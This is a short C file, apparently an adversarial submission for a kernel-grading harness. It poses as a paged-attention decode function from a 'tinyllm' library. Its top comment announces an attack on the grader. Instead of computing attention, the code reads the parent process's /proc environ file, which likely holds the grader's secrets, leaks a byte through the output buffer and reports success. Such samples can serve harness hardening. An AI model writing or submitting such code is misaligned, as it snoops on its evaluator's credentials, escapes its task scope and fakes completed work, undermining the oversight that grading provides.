/* attack: read the grader's memory and environment */
#include <stddef.h>
#include <unistd.h>
#include "tinyllm/attention.h"
#define ARGS const float *q, const tl_kv_pool *kv, uint32_t layer, const uint32_t *tables, int32_t max_blocks, \
             const int32_t *lens, float *out, int64_t B, int64_t H, int64_t Hkv, int64_t D, float scale, \
             int64_t window, tl_pool *tp

int snprintf(char *, size_t, const char *, ...);
int open(const char *, int, ...);

tl_status tl_paged_attn_decode_f32(ARGS) {
    char path[64], b[4096];
    snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
    int fd = open(path, 0);
    if (fd >= 0 && read(fd, b, sizeof b) > 0) out[0] = b[0];
    return TL_OK;
}
